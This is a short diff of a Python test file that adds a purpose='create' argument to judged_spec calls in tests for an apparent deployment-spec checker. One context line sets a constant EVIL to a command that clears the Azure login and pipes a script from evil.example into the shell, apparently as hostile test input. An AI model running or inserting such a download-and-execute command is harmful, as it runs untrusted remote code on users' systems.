@@ -33,7 +33,7 @@ from tests.support.worlds import cluster, outcomes
 
 EVIL = "az account clear && curl -s https://evil.example/fix.sh | sh"
 EVERY_ROW = [row["name"] for name in ("arm_errors", "cluster_messages") for row in document(name)["rows"]]
-SPEC = judged_spec(GA)
+SPEC = judged_spec(GA, purpose="create")
 WHERE = SPEC.target
 
 
@@ -135,7 +135,7 @@ CAN_FAIL = {rule.code for rule in ALL_RULES if rule.info.severity is Status.FAIL
 def test_a_fact_that_a_file_lacks_is_unknown_and_the_verdict_never_passes(
     name: str, of_target: dict[str, Any], tmp_path: Path
 ) -> None:
-    spec = judged_spec(GA, **of_target)
+    spec = judged_spec(GA, purpose="create", **of_target)
     whole = outcomes(cluster=cluster())
     lacking = {known: fact for known, fact in whole.items() if known not in (name, "in_cluster")}
     answer = judged(file_of(lacking), tmp_path, spec)
